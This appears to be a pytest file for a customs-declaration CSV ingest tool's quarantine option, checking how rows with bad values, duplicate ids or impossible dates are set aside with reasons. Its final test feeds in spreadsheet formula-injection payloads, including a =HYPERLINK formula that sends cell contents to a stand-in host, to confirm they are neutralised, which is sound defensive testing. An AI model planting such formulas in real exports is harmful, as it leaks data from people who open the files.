"""``ingest --quarantine``: the few rows of an export that cannot be right are set aside with
their reasons and the rest is ingested; many such rows still refuse the whole file."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from features.intake.contract import ContractError
from features.intake.ingest import ingest_file
from features.intake.mapping import REJECTED_REASONS, REJECTED_ROW
from features.intake.validation import validate_file

MAPPING = """\
columns:
  declaration_id: ID
  declared_at: {column: AT, format: "%d/%m/%Y %H:%M", timezone: Europe/Paris}
  arrival_office: {value: FR01}
  channel: {value: postal}
  hs_code: HS
  declared_value: {column: VAL, decimal: ","}
  currency: {value: EUR}
  gross_weight_kg: {column: KG, decimal: ","}
  origin_country: {column: PAYS, country_codes: alpha3}
  description: DESC
"""

ROWS = 400


def _export(tmp_path: Path, **bad: tuple[int, str, str]) -> Path:
    """A clean export of ROWS rows with the cells in ``bad`` (name: (row, column, value))."""
    frame = pd.DataFrame(
        {
            "ID": [f"D{i}" for i in range(ROWS)],
            "AT": ["02/01/2026 10:00"] * ROWS,
            "HS": ["610910"] * ROWS,
            "VAL": ["12,50"] * ROWS,
            "KG": ["0,5"] * ROWS,
            "PAYS": ["CHN"] * ROWS,
            "DESC": ["t-shirt"] * ROWS,
        }
    )
    for row, column, value in bad.values():
        frame.loc[row, column] = value
    path = tmp_path / "export.csv"
    frame.to_csv(path, sep=";", index=False)
    return path


BAD = {
    "word_for_a_value": (3, "VAL", "douze"),
    "negative_weight": (7, "KG", "-1"),
    "unknown_country": (9, "PAYS", "ZZZ"),
    "duplicate_id": (11, "ID", "D12"),
    "impossible_date": (20, "AT", "31/02/2026 10:00"),
}


def _ingest(tmp_path: Path, source: Path, **options) -> dict:
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(MAPPING, encoding="utf-8")
    return ingest_file(source=source, mapping_path=mapping, out=tmp_path / "out.parquet", **options)


def test_bad_rows_are_set_aside_with_row_numbers_and_reasons(tmp_path) -> None:
    source = _export(tmp_path, **BAD)
    summary = _ingest(tmp_path, source, quarantine=tmp_path / "rejected.csv", max_rejected=0.05)
    rejected = pd.read_csv(tmp_path / "rejected.csv", dtype=str, keep_default_na=False)
    # the duplicate id sets both of its rows aside: which one is right is not known
    assert rejected[REJECTED_ROW].tolist() == ["4", "8", "10", "12", "13", "21"]
    assert rejected["ID"].tolist() == ["D3", "D7", "D9", "D12", "D12", "D20"]
    assert rejected["VAL"].iloc[0] == "douze"  # the source's cells, as written
    reasons = rejected[REJECTED_REASONS].tolist()
    assert "declared_value (source column 'VAL'): not numbers" in reasons[0]
    assert "'douze'" in reasons[0]
    assert reasons[1] == "gross_weight_kg: -1 kg is negative"
    assert "not ISO 3166 alpha3" in reasons[2] and "'ZZZ'" in reasons[2]
    assert reasons[3] == reasons[4] == "declaration_id: 'D12' appears 2 times"
    assert "not timestamps in format" in reasons[5]
    assert summary["rows_read"] == ROWS and summary["rows_rejected"] == 6
    assert summary["rows"] == ROWS - 6
    assert summary["rejected_reasons"]["declaration_id.unique (unique declaration ids)"] == 2
    kept = pd.read_parquet(tmp_path / "out.parquet")
    assert len(kept) == ROWS - 6 and not {"D3", "D7", "D9", "D12", "D20"} & set(kept.declaration_id)


def test_what_is_kept_passes_the_gate(tmp_path) -> None:
    from features.intake.rules import Limits
    from features.params import load_settings

    source = _export(tmp_path, **BAD)
    _ingest(tmp_path, source, quarantine=tmp_path / "rejected.csv", max_rejected=0.05)
    limits = Limits.from_settings(load_settings(None))
    result = validate_file(tmp_path / "out.parquet", limits, cross_check=False)
    assert result.success and result.rows == ROWS - 6


def test_a_row_with_several_problems_lists_them_all(tmp_path) -> None:
    source = _export(tmp_path, value=(5, "VAL", "x"), weight=(6, "KG", "-2"))
    frame = pd.read_csv(source, sep=";", dtype=str)
    frame.loc[5, "PAYS"] = "QQQ"
    frame.loc[5, "KG"] = "-3"
    frame.to_csv(source, sep=";", index=False)
    _ingest(tmp_path, source, quarantine=tmp_path / "rejected.csv")
    rejected = pd.read_csv(tmp_path / "rejected.csv", dtype=str)
    row6 = rejected.loc[rejected[REJECTED_ROW] == "6", REJECTED_REASONS].item()
    # conversion problems of the row: the gate never saw it, so its weight is not judged
    assert "declared_value" in row6 and "origin_country" in row6
    assert rejected[REJECTED_ROW].tolist() == ["6", "7"]


def test_a_clean_export_writes_an_empty_quarantine(tmp_path) -> None:
    stale = tmp_path / "rejected.csv"
    stale.write_text("from a previous run\n")
    summary = _ingest(tmp_path, _export(tmp_path), quarantine=stale)
    assert summary["rows_rejected"] == 0 and summary["rows"] == ROWS
    rejected = pd.read_csv(stale)
    assert rejected.empty and REJECTED_REASONS in rejected.columns


def test_too_many_bad_rows_refuse_the_file_and_write_nothing(tmp_path) -> None:
    source = _export(tmp_path, **BAD)  # 6 of 400: 1.5% > the default 1%
    out, quarantine = tmp_path / "out.parquet", tmp_path / "rejected.csv"
    with pytest.raises(ContractError) as err:
        _ingest(tmp_path, source, quarantine=quarantine)
    message = str(err.value)
    assert "6 of 400 rows (1.50%) cannot be right, more than --max-rejected 1.00%" in message
    assert "2 row(s): declaration_id: 'D12' appears 2 times (row 12, first of them)" in message
    assert not out.exists() and not quarantine.exists()


def test_a_mapping_mistake_is_not_quarantined_row_by_row(tmp_path) -> None:
    source = _export(tmp_path)
    wrong = MAPPING.replace('{column: VAL, decimal: ","}', "VAL")  # every value holds a ','
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(wrong, encoding="utf-8")
    with pytest.raises(ContractError, match="400 of 400 rows"):
        ingest_file(
            source=source,
            mapping_path=mapping,
            out=tmp_path / "o.parquet",
            quarantine=tmp_path / "r.csv",
            max_rejected=0.5,
        )
    missing = MAPPING.replace("description: DESC", "description: GOODS")
    mapping.write_text(missing, encoding="utf-8")
    with pytest.raises(ContractError, match="absent from the file: 'GOODS'"):
        ingest_file(
            source=source,
            mapping_path=mapping,
            out=tmp_path / "o.parquet",
            quarantine=tmp_path / "r.csv",
        )


def test_without_quarantine_one_bad_value_still_stops_the_ingest(tmp_path) -> None:
    source = _export(tmp_path, word_for_a_value=BAD["word_for_a_value"])
    with pytest.raises(ContractError, match="row 4 \\(D3\\): 'douze'"):
        _ingest(tmp_path, source)


@pytest.mark.parametrize(
    ("name", "share", "problem"),
    [
        ("rejected.txt", 0.01, "written as CSV"),
        ("export.csv", 0.01, "is the source"),
        ("rejected.csv", 1.5, "between 0 and 1"),
        ("rejected.csv", float("nan"), "between 0 and 1"),
        ("missing/rejected.csv", 0.01, "directory .*missing does not exist"),
    ],
)
def test_quarantine_options_that_cannot_work_are_refused_first(
    tmp_path, name: str, share: float, problem: str
) -> None:
    source = _export(tmp_path)
    with pytest.raises(ContractError, match=problem):
        _ingest(tmp_path, source, quarantine=tmp_path / name, max_rejected=share)
    assert source.read_text().startswith("ID;AT")


def test_the_cli_quarantines_and_refuses_in_one_line(tmp_path) -> None:
    from serving.main import app

    source = _export(tmp_path, **BAD)
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(MAPPING, encoding="utf-8")
    out, quarantine = tmp_path / "out.parquet", tmp_path / "rejected.csv"
    args = [
        "ingest",
        str(source),
        "--mapping",
        str(mapping),
        "--out",
        str(out),
        "--quarantine",
        str(quarantine),
    ]
    run = CliRunner().invoke(app, args)
    assert isinstance(run.exception, ContractError) and "\n" not in str(run.exception)
    run = CliRunner().invoke(app, [*args, "--max-rejected", "0.02"])
    assert run.exit_code == 0, run.output
    assert '"rows_rejected": 6' in run.output and len(pd.read_csv(quarantine)) == 6


def test_the_quarantine_holds_the_source_columns_not_the_joins(tmp_path) -> None:
    source = _export(tmp_path, impossible_date=(20, "AT", "31/02/2026 10:00"))
    frame = pd.read_csv(source, sep=";", dtype=str)
    frame[["DAY", "TIME"]] = frame["AT"].str.split(" ", expand=True)
    frame.drop(columns="AT").to_csv(source, sep=";", index=False)
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(MAPPING.replace("{column: AT,", "{columns: [DAY, TIME],"), encoding="utf-8")
    ingest_file(
        source=source,
        mapping_path=mapping,
        out=tmp_path / "out.parquet",
        quarantine=tmp_path / "rejected.csv",
    )
    rejected = pd.read_csv(tmp_path / "rejected.csv", dtype=str)
    assert list(rejected.columns) == [
        REJECTED_ROW,
        "ID",
        "HS",
        "VAL",
        "KG",
        "PAYS",
        "DESC",
        "DAY",
        "TIME",
        REJECTED_REASONS,
    ]
    assert "source column 'DAY + TIME'" in rejected[REJECTED_REASONS].item()


def test_the_quarantine_file_holds_no_cell_a_spreadsheet_would_run(tmp_path) -> None:
    """A hostile declaration's =HYPERLINK(...) or @SUM(...) was written as is into the file an
    analyst opens (probe); signed numbers stay as written."""
    from features.intake.io import spreadsheet_safe

    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    source = _export(tmp_path, link=(3, "DESC", hostile), sum=(4, "ID", "@SUM(A1)"))
    frame = pd.read_csv(source, sep=";", dtype=str)
    frame.loc[[3, 4], "VAL"] = "douze"
    frame.to_csv(source, sep=";", index=False)
    _ingest(tmp_path, source, quarantine=tmp_path / "rejected.csv")
    rejected = pd.read_csv(tmp_path / "rejected.csv", dtype=str, keep_default_na=False)
    assert rejected["DESC"].iloc[0] == "'" + hostile and rejected["ID"].iloc[1] == "'@SUM(A1)"
    cells = pd.DataFrame({"a": ["-5", "+3.2", "-cmd|x", "\tx", None], "n": [1, 2, 3, 4, 5]})
    safe = spreadsheet_safe(cells)["a"]
    assert safe.iloc[:4].tolist() == ["-5", "+3.2", "'-cmd|x", "'\tx"] and pd.isna(safe.iloc[4])
